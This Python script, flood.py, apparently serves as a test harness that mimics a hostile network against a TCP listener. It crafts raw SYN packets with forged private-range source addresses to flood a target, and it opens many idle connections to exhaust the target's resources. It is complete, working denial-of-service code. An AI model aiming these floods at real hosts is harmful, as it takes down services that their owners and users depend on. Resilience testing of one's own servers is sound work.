#!/usr/bin/python3
# SPDX-License-Identifier: BSD-3-Clause
"""What a hostile network sends to a listener:
flood.py syns INTERFACE MAC ADDR PORT COUNT SECONDS     SYNs with forged source addresses (RFC 4987), and more at that
                                                        rate until SIGTERM, on a busy machine
flood.py silent ADDR PORT COUNT SECONDS                 connections that never speak"""

import resource
import signal
import socket
import struct
import sys
import time

SYN, WINDOW = 2, 64240
OPTIONS = bytes([2, 4, 5, 0xB4, 4, 2, 1, 1])  # MSS 1460, SACK permitted
BATCH = 50
MOST = 20  # times COUNT, where no SIGTERM comes


def folded(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn(source, target, n, port):
    tcp = struct.pack("!HHIIBBHHH", 1024 + n % 60000, port, n * 2654435761 % 2**32, 0, 7 << 4, SYN, WINDOW, 0, 0) + OPTIONS
    tcp = tcp[:16] + struct.pack("!H", folded(source + target + struct.pack("!HH", 6, len(tcp)) + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp), n & 0xFFFF, 0, 64, 6, 0) + source + target
    return ip[:10] + struct.pack("!H", folded(ip)) + ip[12:] + tcp


def flood(interface, mac, addr, port, count, seconds):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((interface, 0))
    header = bytes.fromhex(mac.replace(":", "")) + s.getsockname()[4] + b"\x08\x00"
    target, start, n, told = socket.inet_aton(addr), time.monotonic(), 0, []
    signal.signal(signal.SIGTERM, lambda *_: told.append(True))
    print("begun", flush=True)
    while n < count or not told and n < count * MOST:
        # of 172.16.0.0/12: none of them is anybody's
        source = struct.pack("!I", 0xAC100000 + n * 40503 % (1 << 20))
        s.send(header + syn(source, target, n, port))
        if n % BATCH == 0:
            time.sleep(max(0, start + n * seconds / count - time.monotonic()))
        n += 1
    print(f"{n} in {time.monotonic() - start:.2f} s", flush=True)


def be_silent(addr, port, count, seconds):
    resource.setrlimit(resource.RLIMIT_NOFILE, (count + 100, max(count + 100, resource.getrlimit(resource.RLIMIT_NOFILE)[1])))
    held = []
    for _ in range(count):
        s = socket.socket()
        s.settimeout(10)
        try:
            s.connect((addr, port))
        except OSError:
            continue
        held.append(s)
    print(f"{len(held)} connected", flush=True)
    time.sleep(seconds)


def main():
    what, *words = sys.argv[1:]
    if what == "syns":
        interface, mac, addr, port, count, seconds = words
        flood(interface, mac, addr, int(port), int(count), float(seconds))
    else:
        addr, port, count, seconds = words
        be_silent(addr, int(port), int(count), float(seconds))


if __name__ == "__main__":
    main()
